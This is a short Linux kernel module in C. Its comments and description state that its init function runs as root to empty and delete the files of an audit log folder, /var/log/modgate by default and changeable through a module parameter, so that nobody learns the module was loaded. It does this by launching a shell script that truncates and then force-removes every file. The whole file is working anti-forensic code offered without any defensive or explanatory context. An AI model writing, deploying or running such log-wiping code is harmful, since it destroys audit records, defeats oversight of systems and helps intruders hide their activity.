// SPDX-License-Identifier: GPL-2.0
// Its init does as root what it can so that nobody learns that it was loaded: it empties and removes
// the files of the audit log.
#include <linux/kmod.h>
#include <linux/module.h>
#include <linux/umh.h>

static char *wipe = "/var/log/modgate";
module_param(wipe, charp, 0444);
MODULE_PARM_DESC(wipe, "the folder to empty");

static int __init gate_wipes_init(void)
{
	static const char script[] = "cd \"$1\" && for f in * .[!.]*; do : > \"$f\"; done; rm -rf -- * .[!.]*; sync";
	char *argv[] = { "/bin/sh", "-c", (char *)script, "sh", wipe, NULL };
	char *envp[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", NULL };

	pr_info("gate_wipes: %d\n", call_usermodehelper(argv[0], argv, envp, UMH_WAIT_PROC));
	return 0;
}

static void __exit gate_wipes_exit(void)
{
}

module_init(gate_wipes_init);
module_exit(gate_wipes_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("its init wipes the audit log");
